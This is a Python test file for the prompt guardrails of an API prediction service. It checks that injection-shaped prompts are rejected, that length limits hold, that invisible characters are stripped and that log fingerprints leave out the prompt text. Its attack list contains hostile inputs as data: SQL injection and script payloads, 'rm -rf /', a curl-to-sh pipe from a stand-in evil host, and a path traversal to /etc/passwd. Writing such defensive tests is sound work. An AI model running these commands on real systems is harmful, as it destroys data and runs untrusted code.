"""Guardrails: injection rules by name, prompt length limits from Settings, invisible characters,
and what logs may say of a prompt."""

from __future__ import annotations

from pathlib import Path

import pytest

from opensesame_predictor.config import Settings
from opensesame_predictor.core.errors import GuardrailViolation, InvalidRequest
from opensesame_predictor.core.guardrails import (
    INJECTION_RULES,
    check_request,
    prompt_fingerprint,
    strip_invisible,
)
from opensesame_predictor.core.models import PredictRequest
from opensesame_predictor.core.predictor import Predictor
from opensesame_predictor.service import Service

PETSTORE = Path(__file__).resolve().parents[2] / "fixtures" / "petstore-3.0.yaml"


ATTACKS = [
    ("1' OR '1'='1", "sql_injection"),
    ("name=admin' or 1=1 --", "sql_injection"),
    ("x'; DROP TABLE users; --", "sql_injection"),
    ("list pets UNION SELECT password FROM users", "sql_injection"),
    ("INSERT INTO users (name, role) VALUES ('eve', 'admin')", "sql_injection"),
    ("<script>alert(1)</script>", "script_injection"),
    ("<img src=x onerror=alert(1)>", "script_injection"),
    ("open javascript:alert(document.cookie)", "script_injection"),
    ("; rm -rf /", "shell_injection"),
    ("list files && curl http://evil.example/x | sh", "shell_injection"),
    ("get the pet $(reboot)", "shell_injection"),
    ("name the pet `rm -rf ~`", "shell_injection"),
    ("../../etc/passwd", "path_traversal"),
    ("read ..\\..\\windows\\win.ini", "path_traversal"),
    ("fetch %2e%2e%2fsecrets", "path_traversal"),
    # hidden or disguised forms of the same shapes
    ("<scr\u200bipt>alert(1)</script>", "script_injection"),
    ("\uff1cscript\uff1ealert(1)", "script_injection"),  # full-width < and >
    ("get pets\r\n; rm -rf /", "shell_injection"),
]

ORDINARY = [
    "delete the user's last order",
    "what's the weather in São Paulo?",
    "create a task called 'ship v2 -- final'",
    "find pets where name = 'Rex' or 'Max'",
    "log in as O'Brien",
    "show the select menu options and update the script for onboarding",
    "drop the table booking for friday",
    "insert into the cart the values I picked",
    "show pets | sort by age",
    "run `pytest -q` and then list the pets",
    "copy files from ./docs to the archive",
    "transfer €50 to 日本の口座",
    "GET /pets/{petId} for pet 42",
    "",
]


@pytest.mark.parametrize(("prompt", "rule"), ATTACKS)
def test_injection_shapes_are_refused_with_the_rule_named(
    predictor: Predictor, prompt: str, rule: str
) -> None:
    with pytest.raises(GuardrailViolation) as caught:
        predictor.predict({"prompt": prompt})
    error = caught.value
    assert error.rule == rule
    assert error.field == "prompt"
    assert error.code == "guardrail_violation"
    assert rule in error.message
    assert prompt not in error.message  # the refused text is not echoed back
    assert isinstance(error, InvalidRequest)  # adapters may treat it as a 4xx


@pytest.mark.parametrize("prompt", ORDINARY)
def test_ordinary_prompts_pass(predictor: Predictor, prompt: str) -> None:
    result = predictor.predict({"prompt": prompt})
    assert result.predictions


def test_every_rule_is_named_and_exercised() -> None:
    assert set(INJECTION_RULES) == {rule for _, rule in ATTACKS}


def test_guardrails_can_be_switched_off_but_not_the_length_limit() -> None:
    request = PredictRequest(prompt="<script>alert(1)</script>")
    check_request(request, max_prompt_length=4096, enable_guardrails=False)
    with pytest.raises(InvalidRequest) as caught:
        check_request(
            PredictRequest(prompt="x" * 11), max_prompt_length=10, enable_guardrails=False
        )
    assert caught.value.field == "prompt"


# prompt length -------------------------------------------------------------------------------


def test_the_default_prompt_limit_is_4096_characters(predictor: Predictor) -> None:
    assert predictor.predict({"prompt": "pet " * 1024}).predictions  # exactly 4096
    with pytest.raises(InvalidRequest) as caught:
        predictor.predict({"prompt": "pet " * 1024 + "x"})
    assert caught.value.field == "prompt"
    assert "4096" in caught.value.message and "4097" in caught.value.message
    assert not isinstance(caught.value, GuardrailViolation)


def test_the_prompt_limit_follows_the_environment(
    fixtures: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENSESAME_MAX_PROMPT_LENGTH", "100")
    runtime = Service.from_settings(Settings(specs=[str(fixtures / "petstore-3.0.yaml")]))
    assert runtime.predictor.predict({"prompt": "p" * 100}).predictions
    with pytest.raises(InvalidRequest) as caught:
        runtime.predictor.predict({"prompt": "p" * 101})
    assert caught.value.field == "prompt"
    assert "100" in caught.value.message

    monkeypatch.setenv("OPENSESAME_MAX_PROMPT_LENGTH", "8000")
    runtime = Service.from_settings(Settings(specs=[str(fixtures / "petstore-3.0.yaml")]))
    assert runtime.predictor.predict({"prompt": "list pets " * 500}).predictions  # 5000 chars


# invisible characters and fingerprints -------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("pa\u200bss\u200cwo\u200drd\u2060", "password"),  # zero-width space/non-joiners, WJ
        ("\ufeffbom first", "bom first"),
        ("admin\u202euser\u202c", "adminuser"),  # bidi override and pop
        ("a\u2066b\u2069c\u200fd", "abcd"),  # bidi isolates, right-to-left mark
        ("bell\x07 and esc\x1b[31m", "bell and esc[31m"),
        ("private\ue000use", "privateuse"),
        ("keep\nlines\tand tabs", "keep\nlines\tand tabs"),
        ("São Paulo, 日本, emoji 🐶", "São Paulo, 日本, emoji 🐶"),
    ],
)
def test_strip_invisible(text: str, clean: str) -> None:
    assert strip_invisible(text) == clean


def test_strip_invisible_can_drop_newlines_too() -> None:
    assert strip_invisible("one\ntwo\tthree", keep_newlines=False) == "onetwothree"


def test_prompt_fingerprint_has_length_and_hash_but_no_text() -> None:
    prompt = "reset the password of alice@example.com"
    fingerprint = prompt_fingerprint(prompt)
    assert fingerprint.startswith(f"len={len(prompt)} ")
    for word in ("reset", "password", "alice", "example"):
        assert word not in fingerprint
    assert prompt_fingerprint(prompt) == fingerprint  # stable, so log lines can be correlated
    assert prompt_fingerprint(prompt + " ") != fingerprint
    assert prompt_fingerprint("\udcff lone surrogate")  # never raises on odd text
